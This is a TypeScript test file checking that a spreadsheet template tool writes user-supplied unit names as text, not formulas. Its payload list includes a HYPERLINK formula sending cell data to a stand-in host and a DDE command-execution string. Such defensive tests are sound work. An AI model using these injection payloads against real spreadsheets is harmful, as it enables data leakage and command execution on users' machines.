
/**
 * Text the user gives (the unit name) is written into cells as text, never as a formula, whatever it starts with:
 * through `cchc template --unit` (ExcelJS) and through the office-js template insert (counting mock).
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import * as fs from "fs";
import * as path from "path";
import { run } from "../../src/cli/run";
import { ModelWorkbook } from "../excel/realClient/workbook";
import { hostOn } from "../excel/workbooks";
import { tempDir } from "../fixtures/tempDir";

/** The title block prints the unit name in capitals (A1), so cells are compared case-insensitively. */
const same = (a: unknown, b: string) => typeof a === "string" && a.toUpperCase() === b.toUpperCase();
const contains = (a: unknown, b: string) => typeof a === "string" && a.toUpperCase().includes(b.toUpperCase());

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"];

let dir: string;
beforeAll(() => {
  dir = tempDir("cchc-inject-");
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe.each(PAYLOADS)("unit name %s", (unit) => {
  test("cchc template: the cell holds the text; no formula in the file mentions it", async () => {
    const out = path.join(dir, `t-${PAYLOADS.indexOf(unit)}.xlsx`);
    let err = "";
    const code = await run(["template", out, "--unit", unit, "--year", "2024"], { out: () => undefined, err: (t) => (err += t) });
    expect([code, err]).toEqual([0, ""]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const holding: ExcelJS.Cell[] = [];
    wb.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        // A merged area repeats its first cell's text in the others; only the first holds a value.
        if (contains(String(cell.text), unit) && (!cell.isMerged || cell.master === cell)) holding.push(cell);
      }),
    );
    // The unit's line (A1), the title line "… CỦA <unit>" (A5) and the caption "(Kèm theo … của <unit>)" (A6).
    expect(holding.map((c) => c.address)).toEqual(["A1", "A5", "A6"]);
    for (const cell of holding) expect([cell.address, cell.type]).toEqual([cell.address, ExcelJS.ValueType.String]);
    expect(holding.some((c) => same(c.value, unit))).toBe(true);
    // In the file itself: the text is a string, and no <f> element carries it.
    const zip = await JSZip.loadAsync(fs.readFileSync(out));
    const sheetXml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    const formulas = [...sheetXml.matchAll(/<f>([^<]*)<\/f>/g)].map((m) => m[1]);
    const fragment = unit.slice(1, 8).replace(/&/g, "&amp;").replace(/"/g, "&quot;");
    expect(formulas.filter((f) => contains(f, fragment))).toEqual([]);
  });

  test("office-js template insert: written as text (quote-prefixed), not as a formula", async () => {
    const wb = new ModelWorkbook();
    wb.addSheet("Bìa", [["x"]]);
    const { host } = hostOn(wb);
    const name = await host.insertTemplate({ unitName: unit, year: 2024, period: "nam" });
    const cells = [...wb.sheet(name).cells.values()];
    // The mock does not calculate: a formula would be stored with a blank value and the payload as its formula.
    expect(cells.some((c) => same(c.value, unit))).toBe(true);
    expect(cells.filter((c) => c.value === "" && contains(c.formula, unit.slice(1)))).toEqual([]);
    expect(cells.filter((c) => same(c.formula, unit) && !same(c.value, unit))).toEqual([]);
  });
});
